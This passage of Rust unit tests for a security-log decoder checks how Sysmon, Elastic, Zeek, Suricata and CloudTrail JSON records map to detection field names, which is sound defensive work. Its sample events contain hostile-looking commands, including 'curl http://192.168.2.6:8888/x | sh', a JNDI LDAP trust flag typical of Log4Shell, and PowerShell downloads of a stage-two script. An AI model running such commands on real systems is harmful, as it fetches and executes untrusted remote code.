            r#"{"TimeGenerated":"2022-05-13T08:54:06.347Z","Provider":"Microsoft-Windows-Sysmon","Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"WORKSTATION5","EventData":"{\"Image\":\"C:\\\\Windows\\\\System32\\\\cmd.exe\",\"CommandLine\":\"cmd /c whoami\",\"ProcessId\":\"3936\"}","EventID":1,"Type":"WindowsEvent"}"#,
            "windows/process_creation/sysmon",
            &[
                ("Image", "C:\\Windows\\System32\\cmd.exe"),
                ("CommandLine", "cmd /c whoami"),
                ("Provider_Name", "Microsoft-Windows-Sysmon"),
            ],
        );
        // The older `Event` table: channel as `EventLog`, provider as `Source`.
        assert_names(
            r#"{"TimeGenerated":"2021-03-02T10:00:00Z","Source":"Microsoft-Windows-Sysmon","EventLog":"Microsoft-Windows-Sysmon/Operational","Computer":"WS01","EventID":1,"EventData":"<DataItem type=\"System.XmlData\" time=\"2021-03-02T10:00:00Z\" sourceHealthServiceId=\"x\"><EventData xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><Data Name=\"Image\">C:\\Windows\\System32\\rundll32.exe</Data><Data Name=\"CommandLine\">rundll32 x.dll,Run</Data></EventData></DataItem>","Type":"Event"}"#,
            "windows/process_creation/sysmon",
            &[
                ("Image", "C:\\Windows\\System32\\rundll32.exe"),
                ("Channel", "Microsoft-Windows-Sysmon/Operational"),
                ("Provider_Name", "Microsoft-Windows-Sysmon"),
            ],
        );
        // EvtxECmd: `EventId`, and the data in `Payload`.
        assert_names(
            r##"{"PayloadData1":"ProcessID: 4242","Payload":"{\"EventData\":{\"Data\":[{\"@Name\":\"RuleName\",\"#text\":\"-\"},{\"@Name\":\"Image\",\"#text\":\"C:\\\\Windows\\\\System32\\\\whoami.exe\"},{\"@Name\":\"CommandLine\",\"#text\":\"whoami /priv\"}]}}","Channel":"Microsoft-Windows-Sysmon/Operational","Provider":"Microsoft-Windows-Sysmon","EventId":1,"EventRecordId":"1042","Computer":"WS01","TimeCreated":"2021-03-02T10:00:00.0000000+00:00","MapDescription":"Process creation"}"##,
            "windows/process_creation/sysmon",
            &[
                ("Image", "C:\\Windows\\System32\\whoami.exe"),
                ("CommandLine", "whoami /priv"),
                ("EventID", "1"),
                ("Provider_Name", "Microsoft-Windows-Sysmon"),
            ],
        );
        // `Syslog` from Sysmon for Linux: the message is the event.
        let (mut ctx, ev, _) = decode(
            r#"{"TimeGenerated":"2022-05-11T18:10:20.4Z","Computer":"UBUNTU5","HostName":"UBUNTU5","SyslogMessage":"<Event><System><Provider Name=\"Linux-Sysmon\" Guid=\"{ff032593-a8d3-4f13-b0d6-01fc615a0f97}\"/><EventID>1</EventID><TimeCreated SystemTime=\"2022-05-11T18:10:20.399931000Z\"/><EventRecordID>245753</EventRecordID><Channel>Linux-Sysmon/Operational</Channel><Computer>UBUNTU5</Computer></System><EventData><Data Name=\"Image\">/usr/bin/curl</Data><Data Name=\"CommandLine\">curl http://192.168.2.6:8888/x | sh</Data></EventData></Event>","ProcessName":"sysmon","Type":"Syslog"}"#,
        );
        assert_eq!(ev.logsource.to_string(), "linux/process_creation/sysmon");
        assert_eq!(ev.get(ctx.id("Image")), Some(Value::Str("/usr/bin/curl")));
        assert_eq!(format_rfc3339(ev.time), "2022-05-11T18:10:20.399931Z");
        assert_eq!(ev.get(ctx.id("Computer")), Some(Value::Str("UBUNTU5")));
        assert!(ev.get(ctx.id("truncated")).is_none());
        // Cut short by the relay: kept, with what it has, and marked.
        let (mut ctx, ev, _) = decode(
            r#"{"TimeGenerated":"2022-05-11T18:10:20.4Z","SyslogMessage":"<Event><System><Provider Name=\"Linux-Sysmon\"/><EventID>1</EventID><Channel>Linux-Sysmon/Operational</Channel></System><EventData><Data Name=\"Image\">&lt unknown process&gt </Data><Data Name=\"CommandLine\">java -Dcom.sun.jndi.ldap.object.trustURLCodebase=true -Xms5","Type":"Syslog"}"#,
        );
        assert_eq!(ev.logsource.to_string(), "linux/process_creation/sysmon");
        assert_eq!(
            ev.get(ctx.id("Image")),
            Some(Value::Str("<unknown process>"))
        );
        assert_eq!(
            ev.get(ctx.id("CommandLine")),
            Some(Value::Str(
                "java -Dcom.sun.jndi.ldap.object.trustURLCodebase=true -Xms5"
            ))
        );
        assert_eq!(ev.get(ctx.id("truncated")), Some(Value::Bool(true)));
    }

    #[test]
    fn http_on_the_wire_is_the_proxy_category() {
        assert_names(
            r#"{"ts":1591367999.305988,"uid":"CHhAvVGS1DHFjwGM9","id.orig_h":"10.0.0.5","id.resp_h":"203.0.113.9","method":"GET","host":"update.example.top","uri":"/dl/stage2.ps1?id=7","user_agent":"WindowsPowerShell/5.1","status_code":200,"_path":"http"}"#,
            "zeek/proxy/http",
            &[
                ("c-uri", "/dl/stage2.ps1?id=7"),
                ("c-uri-stem", "/dl/stage2.ps1"),
                ("c-uri-query", "id=7"),
                ("c-uri-extension", "ps1"),
                ("cs-host", "update.example.top"),
                ("c-useragent", "WindowsPowerShell/5.1"),
                ("sc-status", "200"),
                ("c-ip", "10.0.0.5"),
            ],
        );
        assert_names(
            r#"{"timestamp":"2020-06-05T14:39:59.305988+0000","flow_id":1,"event_type":"http","src_ip":"10.0.0.5","dest_ip":"203.0.113.9","http":{"hostname":"update.example.top","url":"/x.exe","http_user_agent":"curl/7.68.0","http_method":"GET","status":200,"protocol":"HTTP/1.1"}}"#,
            "suricata/proxy/http",
            &[
                ("c-uri", "/x.exe"),
                ("c-uri-extension", "exe"),
                ("cs-method", "GET"),
                ("c-useragent", "curl/7.68.0"),
                ("cs-version", "HTTP/1.1"),
            ],
        );
        // Other Zeek logs keep no category.
        assert_names(
            r#"{"ts":1.0,"uid":"C1","id.orig_h":"10.0.0.5","query":"example.com","_path":"dns"}"#,
            "zeek/-/dns",
            &[],
        );
    }

    #[test]
    fn elastic_sysmon_events_take_back_their_sysmon_names() {
        assert_names(
            r#"{"@timestamp":"2023-05-01T10:00:01.000Z","process":{"executable":"C:\\Windows\\System32\\whoami.exe","command_line":"whoami /all","parent":{"executable":"C:\\Windows\\System32\\cmd.exe"},"pe":{"original_file_name":"whoami.exe"}},"user":{"name":"bob","domain":"CORP"},"winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","event_id":"1","computer_name":"WS01","event_data":{"IntegrityLevel":"High"}}}"#,
            "windows/process_creation/sysmon",
            &[
                ("Image", "C:\\Windows\\System32\\whoami.exe"),
                ("CommandLine", "whoami /all"),
                ("ParentImage", "C:\\Windows\\System32\\cmd.exe"),
                ("OriginalFileName", "whoami.exe"),
                ("User", "CORP\\bob"),
                ("IntegrityLevel", "High"),
                // The ECS names stay.
                ("process.command_line", "whoami /all"),
            ],
        );
        // A Sysmon name the event has is kept, not doubled.
        let network = r#"{"destination":{"ip":"203.0.113.9","port":443},"network":{"direction":"egress","transport":"tcp"},"process":{"executable":"C:\\x.exe"},"winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","event_id":3,"event_data":{"Image":"C:\\kept.exe"}}}"#;
        assert_names(
            network,
            "windows/network_connection/sysmon",
            &[
                ("DestinationIp", "203.0.113.9"),
                ("DestinationPort", "443"),
                ("Initiated", "true"),
                ("Protocol", "tcp"),
                ("Image", "C:\\kept.exe"),
            ],
        );
        let (mut ctx, ev, _) = decode(network);
        assert_eq!(ev.get_all(ctx.id("Image")).count(), 1);
        // A Security 4688 whose fields Elastic moved: the process-creation names, and
        // the user from 4688's own names.
        assert_names(
            r#"{"process":{"executable":"C:\\Windows\\System32\\whoami.exe","command_line":"whoami /all","parent":{"executable":"C:\\Windows\\explorer.exe"}},"winlog":{"channel":"Security","event_id":"4688","event_data":{"SubjectUserName":"bob"}}}"#,
            "windows/process_creation/security",
            &[
                ("CommandLine", "whoami /all"),
                ("ParentImage", "C:\\Windows\\explorer.exe"),
                ("User", "bob"),
            ],
        );
    }

    #[test]
    fn nested_windows_with_qualifiers() {
        let (mut ctx, ev, fl) = decode(
            r##"{ "Event" : {"System":{"EventID":{"#attributes":{"Qualifiers":16384},"#text":7045},"Channel":"System","TimeCreated":{"#attributes":{"SystemTime":"2019-03-19T23:34:25.426350Z"}}},"EventData":{"ServiceName":"x"}}}"##,
        );
        assert_eq!(fl, JsonFlavour::WindowsNested);
        assert_eq!(ev.get(ctx.id("EventID")), Some(Value::Int(7045)));
        assert_eq!(ev.logsource.to_string(), "windows/-/system");
        assert_eq!(format_rfc3339(ev.time), "2019-03-19T23:34:25.42635Z");
    }

    #[test]
    fn suricata_zeek_cloudtrail_generic() {
        let (_, ev, fl) = decode(
            r#"{"timestamp":"2017-05-18T14:05:16.264583+0000","flow_id":1,"event_type":"dns","src_ip":"10.0.0.1","dns":{"rrname":"a.example"}}"#,
        );
        assert_eq!(fl, JsonFlavour::SuricataEve);
        assert_eq!(ev.logsource.to_string(), "suricata/-/dns");
        assert_eq!(format_rfc3339(ev.time), "2017-05-18T14:05:16.264583Z");

        let (_, ev, fl) = decode(r#"{"ts":1331901000.5,"uid":"C1","id.orig_h":"10.0.0.1"}"#);
        assert_eq!(fl, JsonFlavour::Zeek);
        assert_eq!(ev.logsource.to_string(), "zeek/-/conn");
        assert_eq!(format_rfc3339(ev.time), "2012-03-16T12:30:00.5Z");

        let (_, ev, fl) = decode(
            r#"{"eventSource":"s3.amazonaws.com","eventName":"GetObject","awsRegion":"us-east-1","eventTime":"2020-09-14T00:44:23Z"}"#,
        );
        assert_eq!(fl, JsonFlavour::CloudTrail);
        assert_eq!(ev.logsource.to_string(), "aws/-/cloudtrail");
        assert_eq!(format_rfc3339(ev.time), "2020-09-14T00:44:23Z");

        let (_, ev, fl) = decode(r#"{"msg":"hello","time":"2021-01-01T00:00:00Z"}"#);
        assert_eq!(fl, JsonFlavour::Generic);
        assert_eq!(format_rfc3339(ev.time), "2021-01-01T00:00:00Z");
    }

    #[test]
    fn bad_json_is_located() {
        let mut ctx = ctx();
        let mut dec = JsonDecoder::default();
        let mut ev = Event::new();
        let err = dec
            .decode_object(&mut ctx, br#"{"a": tru}"#, &mut ev)
            .unwrap_err();
        assert!(
            matches!(err, DecodeErrorKind::Json { column: 8.., .. }),
            "{err:?}"
        );
    }
}
